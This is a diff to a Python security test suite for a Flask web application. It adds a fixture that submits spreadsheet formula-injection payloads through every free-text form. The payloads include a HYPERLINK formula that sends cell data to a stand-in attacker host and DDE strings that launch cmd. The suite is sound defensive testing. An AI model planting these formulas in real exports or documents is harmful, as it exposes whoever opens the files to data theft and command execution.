@@ -18,6 +18,7 @@ from sqlalchemy import select
 from tests.conftest import BACKENDS, base_config, postgres_url, reset_postgres
 from tests.security.demo import VISITORS, Prepared, prepare, user_id_of
 from tests.security.discovery import Site, crawl, post_rules
+from tests.security.filling import fill, typed_fields
 from toolbox import create_app
 from toolbox.extensions import db
 
@@ -147,3 +148,32 @@ def table_state(app: Flask) -> dict[str, tuple[int, str]]:
 
 def changed_tables(before: dict, after: dict) -> list[str]:
     return sorted(name for name in before if before[name] != after.get(name))
+
+
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?d="&A1;"Öppna")',
+    "+SUM(1;1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C notepad'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+)
+# Forms that end the session or need a secret the suite does not have.
+SKIPPED = {"auth.logout", "auth.change_password", "auth.set_password", "auth.login"}
+
+
+@pytest.fixture(scope="module")
+def planted(demo_app, demo_seed, site) -> int:
+    """Formulas saved through every form that takes free text; how many forms."""
+    saved = 0
+    for form in site.unique_forms():
+        fields = typed_fields(form)
+        if not fields or form.endpoint in SKIPPED:
+            continue
+        client = visitor_client(demo_app, form.role, demo_seed.prepared)
+        values = {name: FORMULAS[i % len(FORMULAS)] for i, name in enumerate(fields)}
+        filled = fill(client, form, values)
+        assert filled.status < 500, f"{form.endpoint}: {filled.status}"
+        saved += filled.saved and len(filled.refused) < len(fields)
+    return saved
